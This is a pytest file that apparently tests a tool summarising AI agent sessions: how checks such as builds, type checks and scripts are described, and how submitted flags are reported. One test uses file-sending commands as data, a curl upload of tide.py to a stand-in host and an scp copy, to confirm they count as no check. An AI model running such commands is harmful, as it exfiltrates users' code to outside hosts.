"""What the page says of a check that passed, each wording beside the ones that don't fit."""

from __future__ import annotations

from typing import Any

import pytest

from tests.build import Part, call, diagnosed, edit, read, run, says, user, write
from tests.sessions import Written, parts_of
from tests.tables import table

TASK = user("`clearance_of` in tide.py is off by one.")
CHANGE = edit("tide.py", "return depth", "return depth + 1")
DONE = says("The clearance is fixed.")


@pytest.mark.parametrize(
    ("check", "said"),
    [
        pytest.param(run("npm run build", "built in 3.2s"), "it builds (step 2", id="a bundler"),
        pytest.param(run("cargo build", "Finished `dev` profile [unoptimized]"), "it builds (step 2", id="a compiler"),
        pytest.param(run("mypy tide.py", "Success"), "a static check found no errors (step 2", id="a type checker"),
        pytest.param(run("python -m mypy tide.py", "Success"), "a static check found no errors (step 2", id="a module"),
        pytest.param(run("npm run lint", ""), "a static check found no errors (step 2", id="a project's lint task"),
        pytest.param(run("python show.py", "4"), "a script ran to the end at step 2", id="a script that was there"),
        pytest.param(run("./tide 3", "4"), "a command ran to the end at step 2", id="a program"),
    ],
)
def test_what_ran_is_called_what_it_is(check: Part, said: str) -> None:
    made = diagnosed(TASK, CHANGE, check, DONE)

    assert made.outcome.status == "unknown"
    assert said in made.outcome.reason


def test_a_script_of_the_agents_is_its_own() -> None:
    made = diagnosed(TASK, write("show.py", "import tide"), CHANGE, run("python show.py", "4"), DONE)

    assert "its own script ran to the end at step 3" in made.outcome.reason


def test_a_script_that_was_there_and_that_the_agent_changed_is_not_its_own() -> None:
    made = diagnosed(TASK, CHANGE, run("python tide.py", "4"), DONE)

    assert "a script that it changed ran to the end at step 2" in made.outcome.reason


@pytest.mark.parametrize(
    "sent", ["curl -F 'file=@tide.py' http://pier.example:8000/upload", "scp tide.py pier:", "tar czf all.tgz tide.py"]
)
def test_sending_a_file_away_checks_nothing(sent: str) -> None:
    made = diagnosed(TASK, CHANGE, run(sent, "ok"), DONE)

    assert "ran to the end" not in made.outcome.reason


@pytest.mark.parametrize(
    ("text", "said"),
    [
        pytest.param("pier{low_water_at_nine}", 'Handed in (step 4): "pier{low_water_at_nine}"', id="a value"),
        pytest.param(
            "I wrote the probe and read the flag from its answer.",
            "The agent's closing words: \"I wrote the probe",
            id="words about the work",
        ),
    ],
)
def test_a_value_that_is_handed_in_is_no_closing_word(text: str, said: str) -> None:
    made = diagnosed(
        user("Find the flag of the service on port 8000."),
        write("probe.py", "print(1)"),
        run("curl -s http://pier.example:8000", "pier{low_water_at_nine}"),
        read("notes.txt"),
        call("submit", {"answer": text}, None, task_done=True),
    )
    page = " ".join(statement.text for statement in made.diagnosis.lead)

    assert said in page
    assert "which no result" not in page


COMMIT = user("Please commit.")


@table("what_the_user_asked_for_last")
def test_what_the_user_asked_for_last(parts: Written, said: str) -> None:
    made = diagnosed(
        TASK, CHANGE, run("pytest", "3 passed in 0.1s"), says("Mended."), COMMIT, *parts_of(parts), says("All saved.")
    )

    assert made.outcome.reason.startswith(said)
    assert (made.outcome.status == "succeeded") == said.startswith("Tests")


@table("outcomes")
def test_how_it_ended(task: str, session: list[dict[str, Any]], status: str, reason: str) -> None:
    outcome = diagnosed(user(task), *parts_of(session)).outcome

    assert outcome.status == status
    assert outcome.reason == reason or not reason


@table("no_check")
def test_how_much_an_unchecked_change_weighs(task: str, before: str, after: str, severity: str) -> None:
    found = diagnosed(user(task), edit("lock.ts", before, after), says("Done.")).findings

    assert [(one.kind, one.severity) for one in found] == [("no-check", severity)]
